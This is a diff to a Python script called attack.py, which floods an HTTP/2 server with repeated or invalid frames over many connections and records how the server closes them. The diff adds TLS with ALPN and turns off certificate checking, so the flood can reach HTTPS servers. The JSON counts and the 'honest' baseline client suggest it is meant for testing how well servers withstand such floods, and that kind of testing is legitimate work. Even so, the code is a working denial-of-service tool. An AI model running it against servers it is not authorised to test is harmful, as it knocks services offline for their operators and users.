@@ -1,12 +1,13 @@
 """Floods an HTTP/2 server with one kind of frame, connection after connection, and counts how the server ends them.
 
-Usage: attack.py HOST PORT SECONDS KIND. Prints one line of JSON.
+Usage: attack.py HOST PORT SECONDS KIND [tls]. Prints one line of JSON. With `tls`, the certificate is not checked.
 
 The handshake and the honest client use h2; the frames of a flood are hyperframe's, because h2 sends no invalid ones.
 """
 
 import json
 import socket
+import ssl
 import sys
 import time
 
@@ -106,6 +107,25 @@ KINDS = [
 ]
 
 
+# Errors of a socket in non-blocking mode that has to wait.
+WAITS = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
+
+
+def connect(address, tls):
+    """Opens a connection, over TLS with ALPN if asked."""
+    connection = socket.create_connection(address, timeout=10)
+    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    if not tls:
+        return connection
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    connection = context.wrap_socket(connection)
+    if connection.selected_alpn_protocol() != "h2":
+        raise SystemExit(f"the server has chosen {connection.selected_alpn_protocol()} by ALPN")
+    return connection
+
+
 class Counts:
     def __init__(self):
         self.connections = self.frames = self.silent = 0
@@ -123,9 +143,8 @@ class Counts:
 class Peer:
     """A connection whose frames are counted."""
 
-    def __init__(self, address):
-        self.socket = socket.create_connection(address, timeout=10)
-        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    def __init__(self, address, tls):
+        self.socket = connect(address, tls)
         h2 = H2Connection(H2Configuration(client_side=True))
         h2.initiate_connection()
         self.socket.sendall(h2.data_to_send())
@@ -145,8 +164,10 @@ class Peer:
         while data:
             try:
                 data = data[self.socket.send(data) :]
-            except BlockingIOError:
+            except WAITS:
                 pass
+            except ssl.SSLError as error:
+                raise ConnectionError("the server has closed the connection") from error
             self.read()
 
     def read(self):
@@ -154,9 +175,11 @@ class Peer:
         try:
             while data := self.socket.recv(1 << 20):
                 self.received += data
-        except BlockingIOError:
+        except WAITS:
             self.split()
             return
+        except ssl.SSLError:
+            pass
         raise ConnectionError("the server has closed the connection")
 
     def split(self):
@@ -185,9 +208,9 @@ def encode(frames):
     return b"".join(frame if isinstance(frame, bytes) else frame.serialize() for frame in frames)
 
 
-def attack(address, kind, end, counts):
+def attack(address, tls, kind, end, counts):
     """Sends one connection's flood, until the server ends it or the time is over."""
-    peer = Peer(address)
+    peer = Peer(address, tls)
     counts.connections += 1
     stream = 1
     try:
@@ -239,7 +262,7 @@ def honest(address, end):
 
 
 def main():
-    host, port, seconds, name = sys.argv[1:]
+    host, port, seconds, name, *options = sys.argv[1:]
     address, end = (host, int(port)), time.monotonic() + float(seconds)
     if name == "honest":
         print(json.dumps(honest(address, end)))
@@ -247,7 +270,7 @@ def main():
     kind = next(kind for kind in KINDS if kind.__name__ == name)
     counts = Counts()
     while time.monotonic() < end:
-        attack(address, kind, end, counts)
+        attack(address, "tls" in options, kind, end, counts)
     print(json.dumps(vars(counts)))
 
 
